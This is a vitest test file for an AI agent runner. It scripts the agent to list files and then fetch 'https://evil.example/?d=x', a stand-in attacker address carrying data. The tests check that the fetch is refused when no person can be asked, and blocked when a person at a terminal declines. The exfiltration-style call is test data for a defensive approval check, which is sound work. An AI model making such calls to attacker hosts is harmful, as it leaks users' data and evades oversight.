import { afterEach, beforeEach, expect, test } from "vitest";
import { Desk } from "./desk.test-support.ts";

const playbook = `
version: 1
replies:
  - when: { turn: 1 }
    calls: [{ tool: list_files, input: {} }]
  - when: { turn: 2 }
    calls: [{ tool: web_fetch, input: { url: "https://evil.example/?d=x" } }]
  - text: "It said: {{last}}"
`;

let desk: Desk;

beforeEach(() => {
  desk = new Desk();
  desk.write("book.yaml", playbook);
});
afterEach(() => desk.clear());

const words = ["run", "--playbook", "book.yaml", "--profile", "researcher"];

async function questions(): Promise<number> {
  const { out } = await desk.type(["logs", "--json"]);
  return out.split("\n").filter((line) => line.includes('"agent.asked"')).length;
}

test("run without a terminal is refused a composed address at once, and says why", async () => {
  const { code, out } = await desk.type([...words, "look around"]);
  expect(code).toBe(0);
  expect(out).toMatch(/no terminal, page, chat or client is connected that could ask/);
  expect(await questions()).toBe(0);
});

test("run at a terminal asks the person", async () => {
  const { code, out } = await desk.type([...words, "look around"], { ask: async () => "no" });
  expect(code).toBe(0);
  expect(out).toMatch(/No person allowed web_fetch for https:\/\/evil\.example\/\?d=x/);
  expect(await questions()).toBe(1);
});
